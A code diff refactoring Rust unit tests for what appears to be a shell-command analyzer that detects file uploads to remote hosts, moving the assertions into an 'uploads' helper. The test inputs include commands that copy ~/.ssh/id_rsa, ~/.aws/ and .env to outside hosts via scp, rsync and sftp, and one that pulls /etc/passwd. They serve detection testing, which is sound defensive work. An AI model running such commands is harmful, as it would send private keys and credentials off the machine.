@@ -171,30 +171,28 @@ const RCLONE_LONG: &[&str] =
 #[cfg(test)]
 mod tests {
     use crate::flow::shell::analyze;
-    use crate::flow::shell::test_util::{one, s};
+    use crate::flow::shell::test_util::{s, uploads};
 
     #[test]
     fn scp_rsync() {
-        let n = one("scp ~/.ssh/id_rsa user@203.0.113.9:/tmp/");
-        assert_eq!(n.tool, "scp");
-        assert_eq!(n.upload_paths, s(&["~/.ssh/id_rsa"]));
-        assert_eq!(n.hosts, s(&["203.0.113.9"]));
-        let n = one("rsync -a ~/.aws/ backup@host.example:aws/");
-        assert_eq!(n.upload_paths, s(&["~/.aws/"]));
-        assert_eq!(n.hosts, s(&["host.example"]));
+        assert_eq!(
+            uploads("scp ~/.ssh/id_rsa user@203.0.113.9:/tmp/", &["203.0.113.9"], &["~/.ssh/id_rsa"]).tool,
+            "scp"
+        );
+        uploads("rsync -a ~/.aws/ backup@host.example:aws/", &["host.example"], &["~/.aws/"]);
         let f = analyze("scp -P 2222 u@[2001:db8::1]:/etc/passwd ./p");
         assert_eq!(f.net[0].hosts, s(&["2001:db8::1"]));
         assert!(f.net[0].upload_paths.is_empty());
         assert_eq!(f.written_paths, s(&["./p"]));
-        let n = one("rsync -avz -e 'ssh -p 22' --exclude .git ./ rsync://mirror.example/mod/");
-        assert_eq!(n.upload_paths, s(&["./"]));
-        assert_eq!(n.hosts, s(&["mirror.example"]));
+        uploads(
+            "rsync -avz -e 'ssh -p 22' --exclude .git ./ rsync://mirror.example/mod/",
+            &["mirror.example"],
+            &["./"],
+        );
     }
 
     #[test]
     fn sftp_heredoc_put_is_an_upload() {
-        let n = one("sftp user@h.example <<EOF\nput .env\nEOF");
-        assert_eq!(n.hosts, s(&["h.example"]));
-        assert_eq!(n.upload_paths, s(&[".env"]));
+        uploads("sftp user@h.example <<EOF\nput .env\nEOF", &["h.example"], &[".env"]);
     }
 }
